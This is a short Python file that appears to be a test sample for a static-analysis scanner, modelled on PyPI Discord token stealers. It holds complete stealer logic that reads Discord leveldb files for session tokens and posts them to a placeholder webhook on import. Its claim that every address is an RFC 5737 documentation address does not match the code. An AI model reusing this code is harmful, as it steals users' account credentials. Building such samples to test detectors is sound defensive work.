# INERT test sample for pyward's static analysis: never run it. Modelled on Discord token stealers on PyPI (read Local Storage leveldb, post to a webhook).
# Documented: https://jfrog.com/blog/malicious-pypi-packages-stealing-credit-cards-injecting-code/ (2021)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, re, json, urllib.request

def grab():
    tokens = []
    base = os.path.join(os.getenv('APPDATA', ''), 'discord', 'Local Storage', 'leveldb')
    for name in os.listdir(base):
        if name.endswith('.ldb'):
            text = open(os.path.join(base, name), errors='ignore').read()
            tokens += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', text)
    req = urllib.request.Request('https://discord.com/api/webhooks/000/inert', data=json.dumps({'content': tokens}).encode())
    urllib.request.urlopen(req)

grab()
